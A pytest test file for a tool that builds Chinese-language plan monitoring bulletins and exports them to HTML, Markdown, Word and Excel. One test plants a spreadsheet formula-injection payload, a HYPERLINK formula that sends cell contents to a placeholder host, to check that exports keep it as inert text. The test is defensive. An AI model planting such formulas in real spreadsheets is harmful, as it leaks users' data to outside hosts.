"""Every evaluation the plans name, as a report kind, and the bulletins quoting what departments
reported (本期进展 / 存在问题 / 下步计划) with a citation to the report."""

from __future__ import annotations

import re

import pytest
from docx import Document as Docx
from openpyxl import load_workbook
from selectolax.lexbor import LexborHTMLParser

from planwatch.report.bulletin import build_bulletin
from planwatch.report.render import html, render
from planwatch.store import list_reports
from planwatch.store.progress import ReportInput, review_report, submit_report


def rows(page, table_id: str) -> list[list[str]]:
    table = page.css_first(f"#{table_id}")
    assert table is not None, table_id
    return [[c.text(strip=True) for c in tr.css("td")] for tr in table.css("tr")[1:]]


def sources(page) -> dict[int, str]:
    return {int(li.attributes["id"][4:]): li.text(strip=True) for li in page.css("#sources li")}


def test_quarterly_bulletin_quotes_each_report_and_cites_it(demo_db):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "quarterly")
    page = LexborHTMLParser(html(bulletin))
    assert "八、各部门报送情况" in [h.text(strip=True) for h in page.css("h2")]
    approved = {r["id"]: r for r in list_reports(demo_db, period="2024Q4", review="approved")}
    cited = sources(page)
    quoted = 0
    for department, item, _status, _why, progress, problems, next_steps, cite in rows(page, "department-reports"):
        if not cite:
            assert progress == "本期无审核通过的报送"
            continue
        report_id = int(re.search(r"进展报告 #(\d+)", cited[int(cite.strip("[]"))]).group(1))
        report = approved[report_id]
        assert (report["department"], report["item"]) == (department, item.split()[0])
        assert (progress, problems, next_steps) == (report["narrative"], report["problems"], report["next_steps"])
        quoted += 1
    assert quoted > 0
    flagged = {t.ref for t in bulletin.late_tasks} | {t.ref for t in bulletin.off_track_targets}
    assert {r[1].split()[0] for r in rows(page, "department-reports")} == flagged


def test_markdown_and_word_carry_the_same_quotes(demo_db, tmp_path):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "quarterly")
    quotes = [q for d in bulletin.department_reports for i in d.items for q in i.reports if q.progress]
    assert quotes
    md = render(bulletin, "md", tmp_path / "b.md").read_text(encoding="utf-8")
    docx = Docx(render(bulletin, "docx", tmp_path / "b.docx"))
    cells = {c.text for t in docx.tables for row in t.rows for c in row.cells}
    for q in quotes:
        assert q.progress.replace("|", "/") in md and f"[{q.cite}]" in md
        assert q.progress in cells
    assert f"{quotes[0].cite}. {quotes[0].citation}" in md


def test_public_edition_says_why_reported_text_is_left_out(demo_db):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "quarterly", public=True)
    page = LexborHTMLParser(html(bulletin))
    assert bulletin.narrative_note and bulletin.narrative_note in page.text()
    assert {r[4] for r in rows(page, "department-reports")} <= {"", "本期无审核通过的报送"}


def test_midterm_has_chapter_narratives_from_the_reports(demo_db):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "midterm")
    page = LexborHTMLParser(html(bulletin))
    narrative = rows(page, "chapter-narratives")
    assert narrative
    chapters = [u.name for u in bulletin.chapters]
    assert {r[0] for r in narrative} <= set(chapters)
    order = [chapters.index(r[0]) for r in narrative]
    assert order == sorted(order)


@pytest.mark.parametrize(("kind", "title", "section"), [
    ("annual", "年度监测报告", "八、各部门报送情况"),
    ("final", "总结评估报告", "九、目标实现情况"),
    ("npc", "实施情况的报告", "九、目标实现情况"),
])
def test_every_report_kind_from_the_command(run_cli, demo_db, tmp_path, kind, title, section):
    url = demo_db.url.render_as_string(hide_password=False)
    out = tmp_path / f"{kind}.html"
    result = run_cli("report", "build", "--plan", "1", "--period", "2024Q4", "--kind", kind, "-o", out, "--db", url)
    assert result.exit_code == 0, result.output
    page = LexborHTMLParser(out.read_text(encoding="utf-8"))
    assert page.css_first("h1").text().endswith(title)
    assert section in [h.text(strip=True) for h in page.css("h2")]
    if kind == "npc":
        assert page.css_first("h1").text().startswith("关于《")


def test_final_evaluation_verdicts_follow_the_statuses(demo_db):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "final")
    page = LexborHTMLParser(html(bulletin))
    verdicts = {r[0]: r for r in rows(page, "verdicts")}
    assert set(verdicts) == {t.ref for t in bulletin.targets}
    for t in bulletin.targets:
        verdict = verdicts[t.ref][5]
        assert verdict == ("无数据" if t.code == "no_data" else "已实现" if t.code == "achieved" else "未实现")
        if verdict == "未实现" and verdicts[t.ref][3]:
            assert verdicts[t.ref][6], t.ref  # a target missed with a figure has its gap


def test_report_text_that_looks_like_a_formula_stays_text_in_excel(demo_db, tmp_path):
    bulletin = build_bulletin(demo_db, "1", "2024Q4", "quarterly", save=False)
    department, item = next((d.department, i.ref) for d in bulletin.department_reports for i in d.items
                            if d.department != "未分配" and not i.reports)
    attack = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'
    existing = [r for r in list_reports(demo_db, period="2024Q4", item=item) if r["department"] == department]
    version = None
    if existing:  # a submitted report is revised after the reviewer returns it
        version = review_report(demo_db, existing[0]["id"], "return", "请补充")["version"]
    report = submit_report(demo_db, item, "2024Q4", department, ReportInput("推进中", 50, attack, "-1 问题", "+ 计划"),
                           expected_version=version)
    review_report(demo_db, report["id"], "approve")
    book = load_workbook(render(build_bulletin(demo_db, "1", "2024Q4", "quarterly"), "xlsx", tmp_path / "b.xlsx"))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + attack in {c.value for c in cells}


def test_extracted_records_exported_to_csv_and_excel_keep_formula_text_as_text(tmp_path):
    import csv

    from planwatch.export import write_records

    records = [{"quote": "=SUM(A1:A9)", "value": -3, "section": ["一、", "@x"]}]
    write_records(records, "csv", str(tmp_path / "r.csv"))
    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert (row["quote"], row["value"], row["section"]) == ("'=SUM(A1:A9)", "-3", "一、 › @x")
    write_records(records, "xlsx", str(tmp_path / "r.xlsx"))
    cell = load_workbook(tmp_path / "r.xlsx").active["A2"]
    assert (cell.value, cell.data_type) == ("'=SUM(A1:A9)", "s")
